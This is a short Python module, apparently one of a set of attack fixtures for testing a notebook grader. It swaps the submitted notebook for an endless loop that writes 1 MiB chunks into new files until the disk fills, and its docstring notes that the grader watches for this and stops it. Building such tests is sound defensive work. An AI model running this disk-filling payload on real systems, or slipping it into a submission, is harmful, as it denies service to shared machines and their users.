"""Fills the disk: file after file, each as large as it may be, for ever.

The grader looks at the working folder while it waits, and ends who fills it.
"""

from attacks.build import instead
from nbformat import NotebookNode

EARNS = 5


def submission(released: NotebookNode) -> NotebookNode:
    return instead(
        released,
        """
        import itertools
        for number in itertools.count():
            with open(f"fill{number}", "wb") as file:
                try:
                    while file.write(b"x" * 2**20):
                        pass
                except OSError:
                    continue
        """,
    )
